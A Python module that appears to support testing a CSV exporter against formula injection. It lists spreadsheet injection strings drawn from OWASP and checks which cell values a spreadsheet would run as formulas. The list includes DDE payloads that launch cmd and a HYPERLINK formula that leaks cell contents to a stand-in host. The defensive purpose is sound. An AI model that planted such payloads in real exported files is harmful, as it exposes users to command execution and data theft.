"""Texts that a spreadsheet would run as a formula if a CSV held them as they are: those of OWASP's
page "CSV Injection", and others of their kind."""

import csv
import io
import itertools
import re

RUN = "=+-@＝＋－＠﹦﹢﹣﹫"
ATTACKS = [
    *(f"{sign}1+1" for sign in RUN),
    *(f"{before}={RUN}" for before in (" ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", "\x00")),
    *("\tplain", "\rplain", "\nplain"),
    *(f"anna{separator}=1+1" for separator in (",", ";", "\t", "|", "\r", "\n")),
    *(";=1+1", "；=1+1", ";;=1", '";=1+1', ';"=1+1', ';" =1+1;"', 'x"=1+1', "';=1", ";'=1", "'=1"),
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://example.org/?leak="&A1&A2,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "DDE;\n=cmd|'/C calc'!'A1'",
    "a text\n\n- with a list\n- of two; +1",
]
LOCALES = [*itertools.product(",;\t|", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE))]


def first_signs(text, separator, quoting):
    """The first sign of each cell that a spreadsheet sees which does not trust our quotes."""
    lines = io.StringIO(text, newline="") if quoting != csv.QUOTE_NONE else text.splitlines()
    for row in csv.reader(lines, delimiter=separator, quoting=quoting):
        for cell in row:
            if not re.fullmatch(r"[+-]?\d+", cell):
                yield cell.strip(' "\x00\u00a0\ufeff')[:1]


def run_in_some_locale(text):
    """The signs with which a formula begins anywhere in the text of a CSV, in some locale."""
    found = set()
    for separator, quoting in LOCALES:
        told = text.replace("\x00", "") if quoting == csv.QUOTE_NONE else text
        found |= {*first_signs(told, separator, quoting)} & {*RUN}
    return found
